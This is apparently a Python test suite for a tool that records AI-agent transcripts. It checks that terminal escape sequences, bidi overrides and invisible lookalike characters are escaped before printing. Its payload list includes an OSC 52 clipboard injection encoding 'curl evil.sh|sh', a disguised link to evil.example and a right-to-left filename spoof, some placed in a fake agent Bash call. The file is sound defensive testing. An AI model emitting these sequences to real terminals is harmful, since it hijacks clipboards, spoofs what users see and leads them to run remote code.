"""Nothing a transcript, a file name or a skill name holds can drive the terminal: every
human line is made inert in one place (skillopsd._terminal.safe); JSON stays exact."""

from __future__ import annotations

import ast
import base64
import json
import os
import re
import subprocess
import unicodedata
from datetime import UTC, datetime, timedelta
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from skillopsd._terminal import safe
from skillopsd.cli._output import cells, cut, say, table

from ._daemon import daemon_env
from ._skill_sessions import claude_session
from .conftest import REPO, console_script

# What a terminal may act on, beyond a line feed: C0 (TAB separately), DEL, C1, bidi marks,
# embeddings, overrides and isolates, line/paragraph separators, lone surrogates.
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
    "\ud800-\udfff]"
)
ATTACKS = [
    "\x1b]52;c;" + base64.b64encode(b"curl evil.sh|sh").decode() + "\x07",  # clipboard
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x1b\\",  # a disguised link
    "\x1b]0;pwned-title\x07",  # window title
    "\x1bP1$r0m\x1b\\",  # DCS
    "\x1b_apc\x1b\\",  # APC
    "\x1b^pm\x1b\\",  # PM
    "\x1bXsos\x1b\\",  # SOS
    "\x9d52;c;Y3VybA==\x9c",  # 8-bit OSC ... ST
    "\x9b2J",  # 8-bit CSI
    "\x85",  # NEL
    "\x1b[2J\x1b[31mred",  # CSI
    "\x1bc",  # reset
    "bell\x07",
    "back\x08\x08\x08",
    "ok\rFAIL",  # a CR that overwrites the line
    "\u202egnp.exe\u202c",  # right-to-left override
    "\u2066isolate\u2069",
    "\x00nul\x7fdel",
    "\udcffraw",  # a byte of a non-UTF-8 name (surrogateescape)
]


@given(st.text())
@example("".join(ATTACKS))
def test_safe_leaves_nothing_a_terminal_acts_on(text: str) -> None:
    out = safe(text)
    assert not CONTROL.search(out), repr(out)
    assert safe(out) == out  # idempotent: making safe twice changes nothing
    out.encode("utf-8")  # writable whatever the file name held


@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E)))
def test_printable_text_is_unchanged(text: str) -> None:
    assert safe(text) == text
    assert safe(text + "\n\t" + text) == text + "\n\t" + text


def test_what_was_there_stays_visible() -> None:
    assert safe("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert safe("a\u202eb") == "a\\u202eb"
    assert safe("ok\rFAIL") == "ok\\x0dFAIL"
    assert safe("line\r\nnext") == "line\nnext"  # a Windows line end is a line end
    assert safe("\x1b[1;31mred\x1b[0m \x9b2Jx") == "red x"  # colour and cursor moves go
    assert safe("name\udcffbad") == "name\\xffbad"  # as capture stores the name


@given(st.text(), st.integers(min_value=0, max_value=120))
def test_cut_is_safe_and_fits(text: str, width: int) -> None:
    out = cut(text, width)
    assert not CONTROL.search(out)
    assert cells(out) <= width


def _run(fn: object) -> str:
    @click.command()
    def show() -> None:
        fn()  # type: ignore[operator]

    result = CliRunner().invoke(show)
    assert result.exception is None, result.exception
    return result.output


@given(
    st.integers(min_value=1, max_value=5).flatmap(
        lambda n: st.tuples(
            st.lists(st.text(max_size=12), min_size=n, max_size=n),
            st.lists(
                st.lists(st.text() | st.sampled_from(ATTACKS), min_size=n, max_size=n),
                max_size=5,
            ),
        )
    ),
    st.integers(min_value=80, max_value=160),
)
def test_any_cell_of_any_table_prints_only_its_own_newlines(
    shape: tuple[list[str], list[list[str]]], width: int
) -> None:
    headers, rows = shape
    out = _run(lambda: table([list(r) for r in rows], headers, width=width))
    lines = out.split("\n")
    assert lines[-1] == "" and len(lines) == len(rows) + 2  # one line a row, and the header
    assert not CONTROL.search(out) and "\t" not in out, repr(out)
    assert all(cells(line) <= width for line in lines)


@given(st.text(), st.integers(min_value=80, max_value=160))
def test_prose_is_safe_and_fits(text: str, width: int) -> None:
    out = _run(lambda: say(text, width=width))
    assert not CONTROL.search(out) and "\t" not in out
    assert all(cells(line) <= width for line in out.split("\n"))


@given(
    st.text(alphabet=st.sampled_from(list("ab 中é-=&")), max_size=400),
    st.integers(min_value=80, max_value=160),
)
@example("sync " + "x" * 57 + "&" + "中" * 11 + "Zx (by hand, content derived): never synced", 100)
def test_prose_is_wrapped_never_cut_even_when_wide(text: str, width: int) -> None:
    """Wide characters take two columns: prose wrapped by characters ran past the width and
    was cut ('never synced' became 'nev…')."""
    out = _run(lambda: say(text, width=width))
    assert all(cells(line) <= width for line in out.split("\n"))
    assert "".join(out.split()) == "".join(text.split())


def test_every_human_line_of_the_cli_goes_through_one_place() -> None:
    """Nothing prints but through skillopsd.cli._output (echo, table, say, emit_json*) or
    :func:`safe` (the daemon's one-line errors): a new ``click.echo`` or ``print`` elsewhere
    would bypass the one rule."""
    offenders = []
    for path in sorted((REPO / "skillopsd").rglob("*.py")):
        if path.name in ("_output.py", "_docs.py"):  # _docs writes a file and says where
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            f = node.func
            name = ast.unparse(f)
            if name in ("print", "sys.stdout.write", "sys.stderr.write", "click.secho"):
                offenders.append(f"{path.name}:{node.lineno} {name}")
            if name == "click.echo":
                first = node.args[0] if node.args else None
                if not (isinstance(first, ast.Call) and ast.unparse(first.func) == "safe"):
                    offenders.append(f"{path.name}:{node.lineno} {name}")
    assert not offenders, offenders


# --- through the real programs ------------------------------------------------------

SID = "99999999-9999-4999-8999-999999999990"
# What a transcript holds (a lone surrogate is no JSON text an agent writes; the file name has one).
EVIL = "".join(a for a in ATTACKS if not a.startswith("\udcff"))
TYPED = EVIL.replace("\x00", "")  # what an argument can hold


def _transcript(home: Path) -> Path:
    folder = home / ".claude" / "projects" / "-tmp-esc"
    folder.mkdir(parents=True)
    skill = "evil\x1b]0;skill-title\x07\u202eskill"
    lines = [
        {"type": "user", "message": {"role": "user", "content": "prompt " + EVIL}},
        {
            "type": "assistant",
            "message": {
                "role": "assistant",
                "model": "claude-opus-4-7",
                "content": [
                    {"type": "tool_use", "id": "t1", "name": "WebFetch", "input": {"url": EVIL}},
                    {"type": "tool_use", "id": "t2", "name": "Skill", "input": {"skill": skill}},
                    {"type": "tool_use", "id": "t3", "name": "Bash", "input": {"command": EVIL}},
                ],
                "usage": {"input_tokens": 10, "output_tokens": 5},
            },
        },
        {
            "type": "user",
            "message": {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": t, "content": "Error: " + EVIL}
                    | ({"is_error": True} if t != "t2" else {})
                    for t in ("t1", "t2", "t3")
                ],
            },
        },
        {
            "type": "assistant",
            "message": {
                "role": "assistant",
                "model": "claude-opus-4-7",
                "content": [{"type": "text", "text": "done " + EVIL}],
            },
        },
    ]
    # The file's own name is whatever is on disk: escapes and a byte that is not UTF-8.
    name = folder / f"{SID}\x1b]0;file\x07\udcff.jsonl"
    with open(name, "w", encoding="utf-8") as f:
        for i, d in enumerate(lines):
            d.update(
                sessionId=SID,
                uuid=f"u{i}",
                parentUuid=f"u{i - 1}" if i else None,
                timestamp=f"2026-11-05T11:00:0{i}.000Z",
                cwd="/tmp/esc\x1b]0;cwd\x07",
            )
            f.write(json.dumps(d) + "\n")
    return name


@pytest.mark.slow
def test_no_command_lets_transcript_text_drive_the_terminal(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = daemon_env(home, COLUMNS="80")
    source = _transcript(home)
    subprocess.run([console_script("skillopsd"), "--once"], env=env, check=True, timeout=120)

    def ctl(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            [console_script("skillopsctl"), *args], env=env, capture_output=True, timeout=60
        )

    assert ctl("annotate", SID, "--label", "bad", "--note", TYPED).returncode == 0
    skill = "evil\x1b]0;skill-title\x07\u202eskill"
    commands = [
        ("sessions",),
        ("sessions", "--search", "prompt"),
        ("session", "show", SID),
        ("session", "show", SID, "--utc"),
        ("log",),
        ("skills",),
        ("skill", "show", skill),
        ("skill", "versions", skill),
        ("lineage", skill),
        ("usage", "daily"),
        ("usage", "session"),
        ("annotations",),
        ("status",),
        ("forget", "--source", str(source), "--reason", TYPED, "--dry-run"),
        ("session", "show", "\x1b]0;typed\x07abcdef"),  # a miss quotes what was asked
        ("annotate", SID, "--label", "bad\x1b]0;label\x07"),  # so does a wrong choice
    ]
    seen = b""
    for args in commands:
        result = ctl(*args)
        assert b"Traceback" not in result.stderr, (args, result.stderr)
        for stream in (result.stdout, result.stderr):
            text = stream.decode("utf-8")  # writable as UTF-8: no lone surrogate reached it
            assert not CONTROL.search(text), (args, text)
        seen += result.stdout
    # What was there is shown (escaped), not hidden: the user can see the attempt.
    assert b"\\x1b]52;c;" in seen and b"\\u202e" in seen
    assert b"evil\\x1b]" in ctl("skills").stdout  # the skill's name, as its row
    # JSON is exact: the same text decodes back to the very characters stored.
    out = json.loads(ctl("sessions", "--json").stdout)
    assert out[0]["title"].startswith("prompt \x1b]52;c;")
    spans = [json.loads(line) for line in ctl("export", "jsonl").stdout.splitlines()]

    def strings(value: object) -> list[str]:
        if isinstance(value, dict):
            return [s for v in value.values() for s in strings(v)]
        if isinstance(value, list):
            return [s for v in value for s in strings(v)]
        return [value] if isinstance(value, str) else []

    assert any("Error: " + EVIL in s for span in spans for s in strings(span))


@pytest.mark.slow
def test_forget_finds_a_file_by_its_real_non_utf8_name(tmp_path: Path) -> None:
    """F16: the path the shell gives (raw bytes) and capture's spelling (``\\xff``) both name
    the file; an unknown one is one line; text that is not UTF-8 is one line, nothing stored."""
    home = tmp_path / "home"
    folder = home / ".claude" / "projects" / "-tmp-bad"
    folder.mkdir(parents=True)
    raw = os.fsencode(folder) + b"/name\xffbad.jsonl"
    line = {
        "type": "user",
        "sessionId": "55555555-5555-4555-8555-555555555555",
        "uuid": "u1",
        "timestamp": "2026-11-04T10:00:00Z",
        "cwd": "/tmp/bad",
        "message": {"role": "user", "content": "hi"},
    }
    Path(os.fsdecode(raw)).write_text(json.dumps(line) + "\n")
    env = daemon_env(home)
    subprocess.run([console_script("skillopsd"), "--once"], env=env, check=True, timeout=120)

    def ctl(*args: str | bytes) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            [console_script("skillopsctl"), *args], env=env, capture_output=True, timeout=60
        )

    escaped = os.fsencode(folder) + b"/name\\xffbad.jsonl"
    for name in (raw, escaped):
        result = ctl("forget", "--source", name, "--reason", "t", "--dry-run")
        assert result.returncode == 0, result.stderr
        assert b"would erase 3 events of file " + escaped in result.stdout
    miss = ctl("forget", "--source", os.fsencode(folder) + b"/nope\xff.jsonl", "--reason", "t")
    assert miss.returncode == 1 and b"Traceback" not in miss.stderr
    assert miss.stderr.count(b"\n") == 1 and b"nope\\xff.jsonl" in miss.stderr
    before = ctl("log", "--json").stdout
    bad = ctl("annotate", "55555555", "--label", "bad", "--note", b"x\xffy")
    assert bad.returncode == 2 and bad.stderr.count(b"\n") == 1, bad.stderr
    assert b"not UTF-8" in bad.stderr and b"x\\xffy" in bad.stderr
    assert ctl("log", "--json").stdout == before  # nothing stored
    done = ctl("forget", "--source", raw, "--reason", "t")
    assert done.returncode == 0, done.stderr


# --- invisible characters (reviewer G12) ------------------------------------------------

# Names that print as "deploy" on a terminal unless their invisible characters are shown.
LOOKALIKES = [
    "dep\u200bloy",  # zero-width space
    "dep\u200cloy",  # zero-width non-joiner
    "dep\u200dloy",  # zero-width joiner
    "deploy\u2060",  # word joiner
    "\ufeffdeploy",  # BOM
    "dep\xadloy",  # soft hyphen
    "deploy\U000e0041\U000e007f",  # tag characters (hidden text)
    "deploy\ufe0f",  # a variation selector after a letter
    "deploy\U000e0100",
    "dep\u034floy",  # combining grapheme joiner
    "\u3164deploy",  # Hangul filler
    "deploy\u180e",  # Mongolian vowel separator
    "dep\u2062loy",  # invisible times
]


def _invisible(out: str) -> list[str]:
    """The invisible characters left in ``out`` that draw nothing of their own."""
    left = []
    for i, char in enumerate(out):
        code = ord(char)
        selector = 0xFE00 <= code <= 0xFE0F or 0xE0100 <= code <= 0xE01EF
        if selector or unicodedata.category(char) == "Cf":
            before = out[i - 1] if i else ""
            # Kept only where they draw: an emoji's presentation, a CJK variant, an emoji
            # sequence's joiner between two pictographs.
            if before and not before.isascii() and unicodedata.category(before) in "SoSkSmLo":
                continue
            left.append(char)
    return left


@pytest.mark.parametrize("name", LOOKALIKES)
def test_an_invisible_character_is_shown_as_an_escape(name: str) -> None:
    out = safe(name)
    assert out != "deploy" and "\\" in out and out.isascii(), repr(out)
    assert safe(out) == out


def test_emoji_and_cjk_variants_still_draw() -> None:
    for text in (
        "\u2764\ufe0f ok",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\u845b\U000e0100",
    ):
        assert safe(text) == text
    assert safe("x\u200d\U0001f600") == "x\\u200d\U0001f600"  # a joiner after a letter hides


@given(st.text())
@example("".join(LOOKALIKES) + "\u2764\ufe0f\ufe0f\u200d\u200d\U0001f600")
def test_safe_leaves_nothing_invisible(text: str) -> None:
    out = safe(text)
    assert not _invisible(out), (repr(text), repr(out))
    assert safe(out) == out


@pytest.mark.slow
def test_three_skills_never_print_as_one_name(tmp_path: Path) -> None:
    """G12: deploy, dep<ZWSP>loy and deploy<WJ> are three rows that read apart on a terminal;
    JSON keeps the names exact."""
    home = tmp_path / "home"
    home.mkdir()
    env = daemon_env(home, COLUMNS="80")
    names = ["deploy", "dep\u200bloy", "dep\u200bloy", "deploy\u2060"]
    for n, name in enumerate(names):
        claude_session(
            home,
            session=f"{n:08d}-8888-4000-8000-000000000012",
            skill=name,
            skill_dir=tmp_path / "p" / ".claude" / "skills" / "deploy",
            body=f"Deploy it ({n}).",
            prompt="go",
            tools=["Read"],
            final="done",
            start=datetime(2026, 11, 1, tzinfo=UTC) + timedelta(days=n),
        )
    subprocess.run([console_script("skillopsd"), "--once"], env=env, check=True, timeout=120)

    def ctl(*args: str) -> str:
        result = subprocess.run(
            [console_script("skillopsctl"), *args], env=env, capture_output=True, timeout=60
        )
        assert result.returncode == 0, (args, result.stderr)
        return result.stdout.decode("utf-8")

    rows = [line.split()[0] for line in ctl("skills").splitlines()[1:] if line.strip()]
    assert sorted(rows) == sorted(["deploy", "dep\\u200bloy", "deploy\\u2060"]), rows
    assert sorted(s["skill"] for s in json.loads(ctl("skills", "--json"))) == sorted(set(names))
    for name, shown in (("dep\u200bloy", "dep\\u200bloy"), ("deploy\u2060", "deploy\\u2060")):
        for command in (
            ("skill", "show", name),
            ("skill", "versions", name),
            ("sessions", "--skill", name),
        ):
            text = ctl(*command)
            assert not _invisible(text), (command, text)
            if command[0] == "skill":
                assert text.startswith(f"skill {shown} "), (command, text)
        assert json.loads(ctl("skill", "show", name, "--json"))["skill"] == name
